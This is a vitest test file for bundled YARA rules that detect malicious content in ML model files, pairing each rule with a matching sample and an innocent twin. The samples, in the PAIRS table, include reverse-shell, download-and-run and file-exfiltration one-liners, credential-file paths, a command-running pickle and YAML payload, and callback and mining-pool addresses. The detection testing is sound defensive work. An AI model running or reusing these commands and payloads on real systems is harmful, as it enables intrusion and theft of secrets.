import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, readdirSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { describe, expect, test } from 'vitest'
import { isMonotone } from '../../../engine/isMonotone.ts'
import { SEVERITIES } from '../../../engine/model/Finding.ts'
import { loadYara } from '../yara.ts'
import { BUNDLED_RULE_FILES, BUNDLED_RULES } from './bundled.ts'

const yara = await loadYara()
const named = (text: string): string => `\xda${String.fromCharCode(text.length)}${text}`
/** The names of a marshalled code object. */
const names = (...texts: readonly string[]): string => `\xe3\0\0\0\0)${texts.map(named).join('')}`
/** A constant of one: text of up to 255 ASCII characters. */
const constant = (text: string): string => `\xfa${String.fromCharCode(text.length)}${text}`
const instruction = (name: string, meaning: string): string =>
  `  4           6 ${name.padEnd(20)} 1 (${meaning})\n`
const base64 = (text: string): string => Buffer.from(text, 'latin1').toString('base64')

function matching(text: string): readonly string[] {
  const { matches, messages } = yara.scan(Buffer.from(text, 'latin1'), BUNDLED_RULES)
  expect(messages).toEqual([])
  return matches.map(({ rule }) => rule)
}

const KERAS = '{"function_type": "lambda", "function": ["'

/** For each rule: what it fires on, and an innocent twin of each. */
const PAIRS: Readonly<Record<string, readonly (readonly [string, string])[]>> = {
  KerasLambda: [[KERAS, '{"function_type": "function", "function": "relu"}']],
  KerasURL: [[KERAS + base64('xx http://example.test'), KERAS + base64('xx a tensor of ones')]],
  KerasRequests: [[KERAS + base64('import requests as r'), `"lambda" ${base64('the requests')}`]],
  PythonProcess: [
    [names('os', 'system'), names('os', 'path')],
    [names('posix', 'execve'), names('tf', 'systems')],
    [names('subprocess', 'run'), 'subprocess'],
    [
      instruction('LOAD_GLOBAL', 'NULL + os') + instruction('LOAD_ATTR', 'popen'),
      instruction('LOAD_GLOBAL', 'tf') + instruction('LOAD_ATTR', 'popen'),
    ],
    [instruction('IMPORT_NAME', 'subprocess'), instruction('LOAD_CONST', "'subprocess'")],
  ],
  PythonReverseShell: [
    [names('socket', 'dup2'), names('socket', 'gethostname')],
    [instruction('IMPORT_NAME', 'socket') + instruction('LOAD_ATTR', 'dup2'), names('dup2')],
    [constant('import pty;pty.spawn("/bin/sh")'), constant('import pty')],
  ],
  PythonDynamicCode: [
    [names('exec'), names('execute')],
    [instruction('LOAD_GLOBAL', 'NULL + exec'), instruction('LOAD_CONST', "'exec'")],
    [names('__import__'), names('__import')],
  ],
  PythonDecodeAndRun: [
    [names('eval', 'base64', 'b64decode'), names('K', 'eval')],
    [
      instruction('LOAD_NAME', 'exec') + instruction('LOAD_METHOD', 'decompress'),
      instruction('LOAD_METHOD', 'decompress'),
    ],
    [constant('exec(zlib.decompress(x))'), constant('exec summary (decode)')],
  ],
  PythonUnmarshal: [
    [names('marshal', 'loads'), names('json', 'loads')],
    [instruction('LOAD_GLOBAL', 'pickle') + instruction('LOAD_METHOD', 'loads'), names('pickle')],
  ],
  PythonDownloadAndRun: [
    [names('urllib', 'urlopen', 'exec'), names('urllib', 'urlopen')],
    [
      instruction('IMPORT_NAME', 'requests') + instruction('LOAD_METHOD', 'system'),
      instruction('IMPORT_NAME', 'requests') + instruction('LOAD_METHOD', 'get'),
    ],
  ],
  PythonNativeCode: [
    [names('ctypes'), 'ctypes'],
    [constant('VirtualAlloc'), constant('Virtual')],
    [instruction('LOAD_ATTR', 'CDLL'), instruction('LOAD_CONST', "'CDLL'")],
  ],
  PythonHiddenReexport: [
    [names('tf', '_os', 'path'), names('tf', 'io', 'os_name')],
    [instruction('LOAD_ATTR', 'f2py'), instruction('LOAD_ATTR', 'fft')],
  ],
  PythonSubclassesChain: [
    [names('__class__', '__base__', '__subclasses__'), names('__class__', '__name__')],
  ],
  PythonLongBase64: [
    [
      instruction('LOAD_CONST', `'${'QUJD'.repeat(60)}'`),
      instruction('LOAD_CONST', `'${'QUJD'.repeat(20)}'`),
    ],
  ],
  PythonAddress: [
    [constant('https://example.test/'), constant('see https://example.test/')],
    [instruction('LOAD_CONST', "'ftp://example.test'"), '"homepage": "https://example.test/"'],
  ],
  ShellOneLiner: [
    ['curl -s http://example.test/x | sh', 'curl the hair | comb it'],
    ['bash -i >& /dev/tcp/127.0.0.1/4444 0>&1', 'bash -c true'],
    ['nc 127.0.0.1 4444 -e /bin/sh', 'nc 127.0.0.1'],
    ['rm /tmp/f;mkfifo /tmp/f;cat /tmp/f', 'mkfifo is a function'],
  ],
  ShellExfiltration: [
    ['curl -d @/tmp/secret http://example.test', 'curl -d a=b http://example.test'],
    ['wget --post-file=/tmp/secret http://example.test', 'wget http://example.test'],
  ],
  PythonCallText: [
    ["os.system('true')", 'os.system is a function'],
    ["subprocess.run(['true'])", 'subprocess.run runs a command'],
    ['__import__("os")', '__import__(name)'],
  ],
  PowerShell: [['PowerShell.exe -nop -enc SQBFAFgA', 'PowerShell is a language']],
  CredentialPath: [
    ['cat /etc/passwd', '/etc/hosts'],
    ['~/.ssh/id_rsa', 'ssh id'],
  ],
  EnvironmentSecret: [[names('os', 'environ') + constant('HF_TOKEN'), names('os', 'environ')]],
  CallbackAddress: [
    ['https://webhook.site/1234', 'https://keras.io/api'],
    ['d3adb33fc0ffee.oast.fun', 'toast.fun'],
  ],
  CoinMiner: [['stratum+tcp://pool.example.test:3333', 'tcp://pool.example.test:3333']],
  EmbeddedProgram: [
    ['MZ...This program cannot be run in DOS mode.', 'This program runs in DOS mode'],
    [`\x7fELF\x02\x01\x01${'\0'.repeat(9)}\x03\0>\0`, `\x7fELF is a magic number`],
    [base64(`MZ\x90\0\x03\0\0\0\x04\0\0\0\xff\xff\0\0`), base64('MZ is a magic number')],
  ],
  PickleRunsCommand: [
    ["cposix\nsystem\n(S'true'\ntR.", 'ccollections\nOrderedDict\n(tR.'],
    [
      '\x80\x04\x8c\x05posix\x94\x8c\x06system\x94\x93\x94.',
      '\x80\x04\x8c\x05numpy\x94\x8c\x05dtype\x94\x93.',
    ],
  ],
  YamlPythonObject: [['a: !!python/object/apply:os.system ["true"]', 'a: !!map {python: 3}']],
  KerasHiddenCommand: [
    [
      `"__lambda__", "code": "${base64('x import os; os.system')}`,
      `"code": "${base64('import os')}`,
    ],
  ],
}

test.each(Object.keys(PAIRS))('%s fires on its cases and not on their innocent twins', (rule) => {
  for (const [guilty, innocent] of PAIRS[rule] ?? []) {
    expect(matching(guilty), guilty).toContain(rule)
    expect(matching(innocent), innocent).not.toContain(rule)
  }
})

test('every rule has a pair, a description, a severity, an author and a reference', () => {
  const always = BUNDLED_RULES.replaceAll(
    /condition:[^}]*\}/g,
    'condition: any of them or filesize > 0 }',
  )
  const { matches } = yara.scan(new Uint8Array(1), always)
  expect(matches.map(({ rule }) => rule).toSorted()).toEqual(Object.keys(PAIRS).toSorted())
  for (const { rule, meta } of matches) {
    const keys = meta.map(([key]) => key)
    expect(keys, rule).toEqual(['description', 'severity', 'author', 'reference'])
    expect(SEVERITIES, rule).toContain(new Map(meta).get('severity'))
  }
})

test('every rule file in the folder is bundled, and the parts of a model go through them in one scan', () => {
  const files = readdirSync(import.meta.dirname).filter((name) => name.endsWith('.yar'))
  expect(BUNDLED_RULE_FILES.map(([name]) => name)).toEqual(files.toSorted())
  expect(isMonotone(BUNDLED_RULES)).toBe(true)
})

const CORPUS = '../shared/corpus'
const NATIVE = '/usr/bin/yara'

interface Sample {
  readonly file: string
  readonly label: string
}

function isSample(value: unknown): value is Sample {
  return typeof value === 'object' && value !== null && 'file' in value && 'label' in value
}

function samplesOf(path: string): readonly Sample[] {
  const listed: unknown = existsSync(path) ? JSON.parse(readFileSync(path, 'utf8')) : []
  return Array.isArray(listed) ? listed.filter(isSample) : []
}

describe.skipIf(!existsSync(CORPUS) || !existsSync(NATIVE))('over the corpus of ../shared', () => {
  const samples = samplesOf(`${CORPUS}/manifest.json`)
  const ours = new Map(
    samples.map(({ file }) => {
      const bytes = readFileSync(`${CORPUS}/files/${file}`)
      return [file, yara.scan(bytes, BUNDLED_RULES).matches]
    }),
  )

  test('whole files match the same rules as in the native yara', () => {
    const folder = mkdtempSync(join(tmpdir(), 'yara-'))
    try {
      writeFileSync(join(folder, 'rules.yar'), BUNDLED_RULES)
      const args = ['--recursive', join(folder, 'rules.yar'), `${CORPUS}/files`]
      const lines = execFileSync(NATIVE, args, { encoding: 'utf8' }).trim().split('\n')
      const native = lines.map((line) => line.replace(`${CORPUS}/files/`, '')).toSorted()
      const found = [...ours].flatMap(([file, matches]) =>
        matches.map(({ rule }) => `${rule} ${file}`),
      )
      expect(found.toSorted()).toEqual(native)
      expect(found.length).toBeGreaterThan(20)
    } finally {
      rmSync(folder, { recursive: true })
    }
  })

  test('no benign file matches a rule of medium or more', () => {
    const mild = ['low', 'info']
    const alarms = samples
      .filter(({ label }) => label === 'benign')
      .flatMap(({ file }) => (ours.get(file) ?? []).map((match) => ({ file, ...match })))
      .filter(({ meta }) => !mild.includes(new Map(meta).get('severity') ?? 'info'))
    expect(alarms.map(({ file, rule }) => `${rule} ${file}`)).toEqual([])
  })
})
